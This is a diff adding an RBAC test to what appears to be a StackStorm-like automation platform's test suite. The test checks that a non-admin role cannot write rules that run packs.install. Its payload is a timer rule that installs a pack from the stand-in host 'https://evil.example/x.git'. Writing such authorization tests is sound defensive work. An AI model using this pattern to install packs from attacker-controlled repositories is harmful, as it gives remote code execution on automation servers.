@@ -174,6 +174,61 @@ async def test_template_reads_of_system_keys_need_key_value_pair_view(
 # --- rules run as the system user -----------------------------------------------------------
 
 
+PACK_INSTALLER = """\
+name: pack_installer
+description: May write rules and run the packs pack's actions, but is no administrator.
+permission_grants:
+  - resource_uid: pack:packs
+    permission_types: [action_view, action_execute, rule_view, rule_create, rule_modify]
+  - resource_uid: pack:alpha
+    permission_types: [action_execute, rule_create, rule_modify]
+"""
+
+
+async def test_rules_cannot_launder_pack_installs(
+    runtime: Runtime, api: httpx.AsyncClient, client_as: ClientFactory, rbac_files: RbacFiles
+) -> None:
+    await rbac_files(
+        roles={"pack_installer": PACK_INSTALLER},
+        assignments={"ivan": "username: ivan\nroles: [pack_installer]\n"},
+    )
+    ivan = await client_as("ivan")
+    interval = {"type": "core.st2.IntervalTimer", "parameters": {"unit": "seconds", "delta": 60}}
+    for pack, action in (("packs", "packs.install"), ("packs", "packs.squall_install")):
+        rule = {
+            "name": "deploy",
+            "pack": pack,
+            "trigger": interval,
+            "action": {"ref": action, "parameters": {"packs": ["https://evil.example/x.git"]}},
+        }
+        resp = await ivan.post("/api/v1/rules", json=rule)
+        assert resp.status_code == 403, resp.text
+        message = resp.json()["faultstring"]
+        assert f"user 'ivan' may not write a rule running '{action}'" in message
+        assert "only administrators may" in message
+    # Pointing an allowed rule at packs.install later is refused the same way.
+    ok = await ivan.post(
+        "/api/v1/rules",
+        json={"name": "r1", "pack": "alpha", "trigger": interval, "action": {"ref": "alpha.say"}},
+    )
+    assert ok.status_code == 201, ok.text
+    moved = await ivan.put(
+        "/api/v1/rules/alpha.r1",
+        json={**ok.json(), "action": {"ref": "packs.install", "parameters": {"packs": ["x/y"]}}},
+    )
+    assert moved.status_code == 403, moved.text
+    assert "may not write a rule running 'packs.install'" in moved.json()["faultstring"]
+    # An administrator may.
+    admin_rule = {
+        "name": "deploy",
+        "pack": "packs",
+        "trigger": interval,
+        "action": {"ref": "packs.install", "parameters": {"packs": ["x/y"]}},
+        "enabled": False,
+    }
+    assert (await api.post("/api/v1/rules", json=admin_rule)).status_code == 201
+
+
 async def test_rules_cannot_launder_permissions(
     runtime: Runtime, api: httpx.AsyncClient, client_as: ClientFactory, rbac_files: RbacFiles
 ) -> None:
